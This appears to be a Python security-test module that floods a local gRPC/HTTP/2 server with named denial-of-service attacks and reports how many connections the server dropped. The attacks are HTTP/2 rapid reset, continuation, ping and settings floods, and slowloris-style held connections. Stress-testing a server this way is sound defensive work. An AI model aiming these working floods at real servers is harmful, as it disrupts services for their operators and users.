"""What hostile peers do to a server: `python -m tests.security.attacks KIND PORT SECONDS`.

Each attack goes on for its time, in a process of its own, with as many connections as the attacker would have from one
machine. It prints what the server did about it as one line of JSON: the connections that it closed or refused.
"""

import contextlib
import json
import os
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from typing import Final

from hpack import Encoder

from lamina_protos.v1 import lamina_pb2 as pb

PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
PATH: Final = "/lamina.v1.ConfigService/GetVersion"


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def headers(encoder: Encoder, *more: tuple[str, str]) -> bytes:
    """Encode the headers of a call."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", PATH), (":authority", "x"), ("te", "trailers")]
    block: bytes = encoder.encode([*fields, ("content-type", "application/grpc"), *more])
    return block


def message(config: str = "shop/prod") -> bytes:
    """Return the frame of gRPC that has a request."""
    body = pb.GetVersionRequest(config=config).SerializeToString()
    return b"\0" + struct.pack(">I", len(body)) + body


def connected(port: int, *, begun: bool = True) -> socket.socket:
    """Connect, and exchange settings: gRPC accepts few streams of a peer that has not acknowledged its own."""
    connection = socket.create_connection(("127.0.0.1", port), timeout=2)
    if begun:
        connection.sendall(PREFACE + frame(SETTINGS))
        read_frame(connection)
        connection.sendall(frame(SETTINGS, flags=ACK))
    return connection


def read_frame(connection: socket.socket) -> tuple[int, int, bytes]:
    """Wait for a frame; return its kind, its flags and its payload."""
    head = _received(connection, 9)
    return head[3], head[4], _received(connection, struct.unpack(">I", b"\0" + head[:3])[0])


def _received(connection: socket.socket, size: int) -> bytes:
    found = b""
    while len(found) < size:
        more = connection.recv(size - len(found))
        if not more:
            raise ConnectionError("the server has closed the connection")
        found += more
    return found


def _read(connection: socket.socket) -> bool:
    """Take what the server sends; return whether the connection is still open."""
    connection.setblocking(False)
    try:
        while data := connection.recv(1 << 20):
            del data
    except BlockingIOError:
        return True
    except OSError:
        return False
    finally:
        connection.settimeout(2)
    return False


class Attack:
    """One attack: `begin` opens a connection, `step` does the same thing again."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.closed = 0
        self.sent = 0

    def flood(self, chunks: Callable[[], Iterator[bytes]], seconds: float, connections: int = 4) -> None:
        """Send the chunks of several connections in turn; open one anew when the server has closed it."""
        end = time.monotonic() + seconds
        open_ones: list[tuple[socket.socket, Iterator[bytes]]] = []
        while time.monotonic() < end:
            with contextlib.suppress(OSError):  # the server may close it at any time
                while len(open_ones) < connections:
                    open_ones.append((connected(self.port), chunks()))
            for pair in list(open_ones):
                connection, rest = pair
                try:
                    chunk = next(rest)
                    connection.sendall(chunk)
                    self.sent += len(chunk)
                    is_open = _read(connection)
                except OSError:
                    is_open = False
                if not is_open:
                    self.closed += 1
                    open_ones.remove(pair)
                    connection.close()
        for connection, _ in open_ones:
            connection.close()

    def hold(self, first: bytes, seconds: float, connections: int, *, begun: bool) -> None:
        """Open connections, send the first bytes of something, and never the rest."""
        end = time.monotonic() + seconds
        held = []
        for _ in range(connections):
            with contextlib.suppress(OSError):
                connection = connected(self.port, begun=begun)
                connection.sendall(first)
                held.append(connection)
        while time.monotonic() < end:
            time.sleep(0.1)
        self.sent = len(held)
        self.closed = connections - sum(_read(connection) for connection in held)
        for connection in held:
            connection.close()


def rapid_reset() -> Iterator[bytes]:
    """Begin calls and cancel them at once (CVE-2023-44487): no limit of concurrent streams sees them."""
    block, body, stream = headers(Encoder()), message(), 1  # the block is valid at any time: it names no other
    while True:
        parts = []
        for _ in range(100):
            parts.append(frame(HEADERS, block, flags=END_HEADERS, stream=stream))
            parts.append(frame(DATA, body, flags=END_STREAM, stream=stream))
            parts.append(frame(RST_STREAM, struct.pack(">I", 8), stream=stream))
            stream += 2
        yield b"".join(parts)


def continuation_flood() -> Iterator[bytes]:
    """Send headers that never end (CVE-2024-27316 and its kind)."""
    fields = [(f"x-{number}", os.urandom(60).hex()) for number in range(100)]
    more = frame(CONTINUATION, Encoder().encode(fields), stream=1) * 10
    yield frame(HEADERS, headers(Encoder()), stream=1)
    while True:
        yield more


def ping_flood() -> Iterator[bytes]:
    """Ask for answers to pings (CVE-2019-9512)."""
    while True:
        yield frame(PING, bytes(8)) * 1_000


def settings_flood() -> Iterator[bytes]:
    """Ask for acknowledgements of settings (CVE-2019-9515)."""
    while True:
        yield frame(SETTINGS, struct.pack(">HI", 4, 65_535)) * 1_000


def empty_frames() -> Iterator[bytes]:
    """Send frames of data without data (CVE-2019-9518)."""
    yield frame(HEADERS, headers(Encoder()), flags=END_HEADERS, stream=1)
    while True:
        yield frame(DATA, b"", stream=1) * 1_000


def window_updates() -> Iterator[bytes]:
    """Change the window again and again, by a byte."""
    while True:
        yield frame(WINDOW_UPDATE, struct.pack(">I", 1)) * 1_000


def bad_calls() -> Iterator[bytes]:
    """Make calls that are refused at once: there is no credential, or the request is malformed."""
    block, stream = headers(Encoder()), 1
    while True:
        parts = []
        for _ in range(20):
            parts.append(frame(HEADERS, block, flags=END_HEADERS, stream=stream))
            parts.append(frame(DATA, b"\0\0\0\0\x01\xff", flags=END_STREAM, stream=stream))
            stream += 2
        yield b"".join(parts)


FLOODS: Final = {
    each.__name__: each
    for each in (rapid_reset, continuation_flood, ping_flood, settings_flood, empty_frames, window_updates, bad_calls)
}


def half_open(attack: Attack, seconds: float) -> None:
    """Open connections and say nothing."""
    attack.hold(b"", seconds, 1_000, begun=False)


def slow_headers(attack: Attack, seconds: float) -> None:
    """Begin calls whose headers never end, or whose requests never come."""
    attack.hold(frame(HEADERS, headers(Encoder()), stream=1), seconds, 500, begun=True)


def slow_bodies(attack: Attack, seconds: float) -> None:
    """Begin calls whose requests stop half-way."""
    begun = b"".join(
        frame(HEADERS, headers(Encoder()), flags=END_HEADERS, stream=stream) + frame(DATA, message()[:7], stream=stream)
        for stream in range(1, 200, 2)
    )
    attack.hold(begun, seconds, 100, begun=True)


def stalled_tls(attack: Attack, seconds: float) -> None:
    """Begin handshakes of TLS, and stop in the middle of the first record."""
    attack.hold(bytes.fromhex("16030102000100"), seconds, 1_000, begun=False)


HOLDS: Final = {each.__name__: each for each in (half_open, slow_headers, slow_bodies, stalled_tls)}


def main() -> None:
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    attack = Attack(port)
    if kind in FLOODS:
        attack.flood(FLOODS[kind], seconds)
    else:
        HOLDS[kind](attack, seconds)
    print(json.dumps({"closed": attack.closed, "sent": attack.sent}))


if __name__ == "__main__":
    main()
